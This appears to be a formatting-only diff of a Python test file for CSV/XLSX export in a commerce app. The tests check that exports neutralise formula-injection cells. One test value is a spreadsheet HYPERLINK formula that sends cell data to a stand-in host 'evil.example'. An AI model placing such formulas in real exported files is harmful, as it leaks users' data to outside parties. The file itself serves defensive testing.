@@ -20,8 +20,15 @@ from weishang.trade.models import Order
 
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
 
-DANGEROUS = ["=1+2*3", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
-             '=HYPERLINK("http://evil.example/?x="&A1,"点我")']
+DANGEROUS = [
+    "=1+2*3",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+]
 
 
 def export(client, model: str, fmt: str) -> bytes:
@@ -126,11 +133,20 @@ def test_harmless_text_is_unchanged(client, owner, make_agent, english):
 def test_a_negative_amount_stays_a_number(client, owner, make_agent, english):
     """A clawback is a negative Decimal: a number cell in XLSX, "-57.50" (no apostrophe) in CSV."""
     agent = make_agent("vip", real_name="王静")
-    plan = PlanVersion.objects.create(plan_id="p", version=1, name="方案", kind="retail", jurisdiction="cn",
-                                      source="x", sha256="0" * 64)
-    RewardLine.objects.create(beneficiary=agent, amount=D("-57.50"), kind=RewardKind.REWARD,
-                              rule_id="-retail", plan=plan, source_event="e1", status=RewardStatus.FROZEN,
-                              explanation_zh="x", explanation_en="x")
+    plan = PlanVersion.objects.create(
+        plan_id="p", version=1, name="方案", kind="retail", jurisdiction="cn", source="x", sha256="0" * 64
+    )
+    RewardLine.objects.create(
+        beneficiary=agent,
+        amount=D("-57.50"),
+        kind=RewardKind.REWARD,
+        rule_id="-retail",
+        plan=plan,
+        source_event="e1",
+        status=RewardStatus.FROZEN,
+        explanation_zh="x",
+        explanation_en="x",
+    )
     client.force_login(owner)
     [row] = csv_rows(export(client, "rewards_rewardline", CSV_FORMAT))
     assert row["amount"] == "-57.50"
